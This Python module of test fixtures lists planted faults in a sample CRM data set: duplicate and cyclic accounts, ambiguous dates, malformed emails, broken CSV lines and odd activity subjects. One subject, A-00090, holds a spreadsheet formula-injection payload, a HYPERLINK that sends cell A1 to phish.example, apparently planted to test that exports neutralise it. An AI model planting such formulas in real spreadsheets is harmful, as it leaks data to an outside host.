"""What is planted in the sample customer's files, by id: the facts that its README lists and tests count on.

Only facts belong here.  Every record that is not named here is drawn so that it breaks no rule.
"""

WORKSPACE = "000001"
"""Lumen Labs itself: the workspace that its own staff sign in to."""

CLOSED = tuple(f"{number:06d}" for number in range(150, 172))
TRIAL = tuple(f"{number:06d}" for number in range(80, 96))
DORMANT = tuple(f"{number:06d}" for number in range(100, 114))
LONG_IDS = tuple(f"0013000000000{number:05d}" for number in range(4201, 4219))
"""18 digits, as a CRM from another maker gives them."""

MISSING_PARENT = {"000117": "000999", "000118": "000999"}
CYCLE = {"000061": "000062", "000062": "000061"}
CLOSED_PARENT = {"000072": "000150"}

NAMED = {
    WORKSPACE: ("Lumen Labs GmbH", "Deutschland", "Dresden", "01067", "+49 351 4081230"),
    "000021": ("Nordlicht Energie GmbH", "Deutschland", "Lübeck", "23552", ""),
    "000121": ("NORDLICHT  ENERGIE", "Germany", "Lübeck", "23552", "+49 451 7098812"),
    "000033": ("Aurora Foods Ltd", "UK", "Leeds", "LS1 4DY", "+44 113 4960101"),
    "000133": ("Aurora Foods, Inc.", "U.S.A.", "Newark", "07102", "+1 973 5550147"),
    "000045": ("Café Müller & Söhne KG", "Deutschland", "Köln", "50667", "+49 221 9911240"),
    "000145": ("Cafe Muller und Söhne", "GER", "Köln", "50667", "+49 221 9911240"),
    "000061": ("Twin Rivers Holding AG", "Schweiz", "Zürich", "8001", "+41 44 5550161"),
    "000062": ("Twin Rivers Services AG", "Schweiz", "Zürich", "8001", "+41 44 5550162"),
}
"""Account -> company, country, town, postal code, phone."""
MERGED = ("000021", "000121")
NOT_THE_SAME = ("000033", "000133")
PERHAPS_THE_SAME = ("000045", "000145")

BLANK_OWNER = tuple(f"{number:06d}" for number in (5, 9, 14, 23, 38, 47, 56, 66, 78, 84, 99, 109, 126, 138))
FORMER_STAFF = (
    "bea.thornton@lumenlabs.example",
    "klaus.rott@lumenlabs.example",
    "mia.arden@lumenlabs.example",
)
FORMER_OWNER = {
    f"{number:06d}": FORMER_STAFF[place % 3]
    for place, number in enumerate((7, 19, 28, 41, 53, 69, 88, 105, 129))
}
COUNTRY = {"000012": "EMEA", "000064": "EMEA", "000091": "Benelux", "000036": "", "000074": "", "000123": ""}
STRATEGIC = tuple(f"{number:06d}" for number in (3, 29, 58, 97, 139))
SEGMENT = {WORKSPACE: "SaaS"}
SEGMENT |= dict.fromkeys(STRATEGIC, "Strategic")
SEGMENT |= dict.fromkeys(MERGED, "Energy")
SEGMENT |= dict.fromkeys((*NOT_THE_SAME, *PERHAPS_THE_SAME), "Food & Beverage")
SEGMENT |= dict.fromkeys(CYCLE, "Consulting")
PHONE = {"000027": "call reception", "000115": "+49 30"}
WEBSITE = {"000044": "relaunch in spring"}
AMBIGUOUS_CREATED = {
    "000017": "02/03/04",
    "000022": "05/06/07",
    "000031": "02/03/04",
    "000048": "01/02/2018",
    "000057": "09/10/11",
    "000067": "04/05/2018",
    "000079": "11/12/10",
    "000098": "03/04/05",
    "000112": "07/08/2016",
    "000124": "10/11/12",
    "000135": "08/09/10",
    "000142": "06/07/2019",
}

RENAMED_ROLE = "Super user"
"""What the CRM export of 27 November calls the role of the SUPERUSERS."""
SUPERUSERS = ("jo.keller@lumenlabs.example", "sam.okafor@lumenlabs.example", "legacy-sync@lumenlabs.example")

NEW_PHONE = {"000010": "+49 341 5550199", "000016": "+43 1 5550116", "000024": "+33 1 55501240"}
"""Telephone numbers that the CRM export of 7 December holds in place of others; these accounts are live by then."""
NEW_NAME = {"000130": "Helvetia Dynamics Europe B.V."}
NEW_OWNER = ("000005", "000007", "000009")
"""Accounts that have an owner in that export: two had none, one belonged to somebody who had left."""
REOPENED = "000155"
"""Closed until then, and Active in that export."""
VANISHED = ("000137", "000168")
"""Accounts that it no longer holds: one is live, one waits for wave 2."""
NEW_ACCOUNT = "000173"
"""The one account that it holds first."""

REPS = 31
FORMER_MANAGER = 3
CUSTOMER_USERS = (
    "000010",
    "000010",
    "000016",
    "000024",
    "000035",
    "000043",
    "000052",
    "000065",
    "000076",
    "000102",
)
CLOSED_CUSTOMER_USERS = ("000152", "000160")

BILLING_BAD_EMAIL = {
    "000038": "buchhaltung(at)kobalt-bau.example",
    "000112": "rechnung@@opal-print.example",
    "000265": "invoices@vega travel.example",
}
BAD_EMAIL = {
    "000051": "f.jaeger@",
    "000097": "siehe Visitenkarte",
    "000160": "k.schroeder@firma",
    "000203": "@tannen-optik.example",
    "000311": "weiss.example",
    "000377": "u.krueger@spree..example",
}
SHARED_EMAIL = {
    f"info@{place}.example": tuple(f"{number:06d}" for number in numbers)
    for place, numbers in {
        "alpenverlag": (20, 21, 22),
        "hafenlogistik": (75, 76, 77),
        "isarkliniken": (130, 131, 132),
        "moewentextil": (188, 189, 190),
        "quellesolar": (240, 241, 242),
        "weserbank": (330, 331, 332),
    }.items()
}
BLANK_EMAIL = tuple(f"{number:06d}" for number in range(11, 430, 18))
NEW_CONTACTS = (
    ("000431", "Frau", "Antje Brandl", "Einkäuferin", "000010"),
    ("000432", "Herr", "Jonas Feddersen", "Leiter IT", "000016"),
    ("000434", "Frau", "Sibel Özkan", "Projektleiterin", "000024"),
    ("000435", "", "Kim Oldenburg", "Buchhaltung", "000035"),
    ("000437", "Herr", "Götz Lammers", "Geschäftsführer", "000043"),
    ("000438", "Frau", "Wiebke Thaler", "Assistenz der Geschäftsführung", "000052"),
    ("000440", "Herr", "Rüdiger Möhn", "Qualitätsprüfer", "000065"),
    ("000441", "Frau", "Elif Sauer", "Buchhaltung", "000076"),
    ("000442", "Herr", "Malte Grün", "Einkäufer", "000102"),
)
"""Contacts of the list of 23 November that the first one does not hold: number, form of address, name, job, company."""
UNREADABLE = {
    "000433": '000433;Frau;Ute "Uschi Renner;ute.renner@firma000010.example;;Leiter IT;000010;nein;',
    "000436": "000436;Herr;Falk Wendt",
    "000439": "000439;Frau;Inge Pohl;inge.pohl@firma000016.example;;Einkauf; Lager;000016;nein;",
}
"""Lines of that list that cannot be read, by the number they begin with: a quote, two values only, a value too many."""
NO_COMPANY = {"000082": "000777", "000156": "000778", "000219": "000777", "000344": "000779"}
CONTACT_PHONE = {"000092": "siehe Zentrale", "000271": "Durchwahl 12"}

GOLD = ("S-10019", "S-10088", "S-10171")
AMOUNT = {"S-10044": "1,250.00", "S-10133": "auf Anfrage"}
ENDS_BEFORE_START = {"S-10061": ("01/09/24", "31/08/23"), "S-10149": ("15/03/25", "14/03/24")}
NO_SUCH_DATE = {"S-10102": "31/11/24"}
NO_SEATS = ("S-10007", "S-10120")
SEATS = {"S-10166": "12 + 3"}
NO_CUSTOMER = {"S-10078": "888", "S-10190": "889"}

ACTIVITIES_OF_2019 = 64
NO_CONTACT = {
    f"A-{number:05d}": f"000{900 + place}" for place, number in enumerate((81, 140, 222, 305, 390, 471, 560))
}
FAX = ("A-00101", "A-00187", "A-00276", "A-00364", "A-00452")
TYPED_WRONG = {"A-00400": "1924-05-06"}
SUBJECT = {
    "A-00090": '=HYPERLINK("http://phish.example/?q="&A1,"Open invoice")',
    "A-00150": "Notes of the call:\n- two more seats\n- invoice to Köln",
    "A-00151": 'They said "not before\r\nEaster", so wait',
    "A-00233": "Champagne 🥂🎉 for the renewal – merci à l’équipe de Besançon",
    "A-00318": "+49 number is wrong, call the front desk",
    "A-00427": "00123 is the old customer number",
}

HOLDERS = (*CYCLE, *PERHAPS_THE_SAME, *MERGED, *NOT_THE_SAME)
"""Accounts that stories are told about; each has some contacts, subscriptions and activities."""
